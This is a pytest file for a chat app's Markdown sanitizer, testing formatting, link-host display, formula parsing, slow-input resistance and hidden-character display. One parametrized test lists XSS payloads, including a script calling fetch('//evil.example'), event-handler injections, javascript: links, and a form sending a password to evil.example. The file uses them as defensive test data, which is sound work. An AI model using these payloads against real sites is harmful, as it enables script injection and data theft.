"""Stored Markdown as HTML: what answers use is there, and nothing loads, sends or covers anything."""

from __future__ import annotations

import re
import time

import pytest

from chat.templatetags.chat_text import duration, in_short, markdown, pairs, tokens, visible


def test_the_forms_that_answers_use() -> None:
    html = markdown(
        "# Head\n\n**b** *e* ~~s~~ `c`\n\n1. one\n2. two\n\n> quote\n\n```python\nx = 1\n```\n\n"
        "| a | b |\n|:-:|--:|\n| 1 | 2 |\n\nH<sub>2</sub>O<br>next"
    )
    for part in (
        "<h1>Head</h1>",
        "<strong>b</strong> <em>e</em> <s>s</s> <code>c</code>",
        "<ol>",
        "<blockquote>",
        '<code class="language-python">',
        '<td align="center">1</td>',
        "H<sub>2</sub>O<br>next",
    ):
        assert part in html


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>fetch('//evil.example')</script>",
        "<img src=https://evil.example/?q=1 onerror=alert(1)>",
        "<svg onload=alert(1)><image href=https://evil.example/></svg>",
        "<style>body{background:url(https://evil.example)}</style>",
        "<div style='position:fixed;inset:0;background:url(//evil.example)'>x</div>",
        "<form action=https://evil.example><input name=password></form>",
        "<iframe src=https://evil.example></iframe><object data=//evil.example></object>",
        "<video src=//evil.example autoplay></video><audio src=//evil.example></audio>",
        "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
        "<a href='javascript:alert(1)' onclick=alert(1)>x</a>",
        "[x](javascript:alert(1)) [y](data:text/html,x) [z](//evil.example) [w](/admin/)",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "```<script>\nx\n```\n\n`<img src=x>`",
        '<code class="math-x hidden" id="composer" name="x">y</code>',
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "$<img src=x onerror=alert(1)>$ and \\[<script>\\]",
    ],
)
def test_nothing_in_a_text_loads_runs_sends_or_covers(hostile: str) -> None:
    html = markdown(hostile)
    tags = set(re.findall(r"<([a-zA-Z]+)", html))
    assert tags <= {"a", "p", "pre", "code", "details", "summary"}
    attributes = set(re.findall(r'\s([\w-]+)="', " ".join(re.findall(r"<[a-z]+[^>]*>", html))))
    assert attributes <= {"href", "data-host", "target", "rel", "class"}
    assert not re.search(r'href="(?!https?:|mailto:)', html)


def test_an_image_becomes_a_link_and_a_link_tells_its_host_and_nothing_else() -> None:
    html = markdown("![plot](https://evil.example/?q=secret) [bank](https://bank.example@evil.example/)")
    assert "<img" not in html
    assert html.count('data-host="evil.example"') == 2
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert html.count('target="_blank"') == 2


def test_a_text_can_not_forge_the_host_of_its_link() -> None:
    html = markdown('<a data-host="bank.example" href="https://evil.example">x</a>')
    assert 'data-host="evil.example"' in html
    assert "bank.example" not in html


@pytest.mark.parametrize(
    ("text", "linked"),
    [
        ("See https://x.org/a_(b), or (https://y.org/c).", ["https://x.org/a_(b)", "https://y.org/c"]),
        ("**https://x.org/**", ["https://x.org/"]),
        ("`https://x.org` xhttps://y.org ftp://z.org", []),
        ("[https://x.org](https://y.org)", ["https://y.org"]),
        ("Go to HTTPS://X.org/Path.", ["HTTPS://X.org/Path"]),
        (
            "Try “fetch https://x.org”, ‘https://y.org/a’ or «https://z.org».",
            ["https://x.org", "https://y.org/a", "https://z.org"],
        ),
        ("请看 https://x.org/a，或者（https://y.org）。", ["https://x.org/a", "https://y.org"]),
    ],
)
def test_bare_addresses_are_links_without_the_sentence_around_them(text: str, linked: list[str]) -> None:
    assert [url.lower() for url in re.findall(r'href="([^"]+)"', markdown(text))] == [url.lower() for url in linked]


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("$a_1 * b_2$", '<code class="math">a_1 * b_2</code>'),
        ("\\(a_b\\)", '<code class="math">a_b</code>'),
        ("so \\[a\nb\\] is", '<code class="math display">a\nb</code>'),
        ("$$\na\n= b\n$$", '<code class="math display block">a\n= b</code>'),
        ("text\n$$x < y$$\nmore", '<code class="math display block">x &lt; y</code>'),
        ("\\[\nx\n\\]", '<code class="math display block">x</code>'),
        ("- $x$", '<code class="math">x</code>'),
    ],
)
def test_formulas_are_kept_from_markdowns_own_signs(text: str, formula: str) -> None:
    assert formula in markdown(text)


@pytest.mark.parametrize(
    "text", ["from $5 to $10", "`$x$`", "a $ b $ c", "\\$x\\$", "$$", "$ $", "    $$x$$", "\\[", "$a\n\nb$"]
)
def test_money_code_and_lonely_signs_are_no_formulas(text: str) -> None:
    assert "math" not in markdown(text)


@pytest.mark.parametrize("piece", ["$$", "\\[", "\\(", "$a", "[", "`", "> ", "* ", "<a ", "https://", "![](", "|-"])
def test_a_text_made_to_be_slow_is_not(piece: str) -> None:
    began = time.monotonic()
    markdown(piece * (20_000 // len(piece)) + "end")
    assert time.monotonic() - began < 20


def test_hidden_characters_are_shown_as_codes_and_the_rest_is_escaped() -> None:
    assert visible("<a>\u200b\u202e\n") == (
        '&lt;a&gt;<span class="hidden-character">U+200B</span><span class="hidden-character">U+202E</span>\n'
    )
    assert visible("Grüße, 世界! नमस्ते") == "Grüße, 世界! नमस्ते"


def test_small_words_for_numbers_and_arguments() -> None:
    assert [duration(340), duration(2_140), duration(185_000), duration(None)] == ["340 ms", "2.1 s", "3 min 5 s", ""]
    assert [tokens(812), tokens(12_345), tokens(1_200_000)] == ["812", "12.3k", "1.2M"]
    assert in_short({"command": "ls\n  -l"}) == "ls -l"
    assert pairs("cut {") == [("", "cut {")]
    assert pairs(None) == []
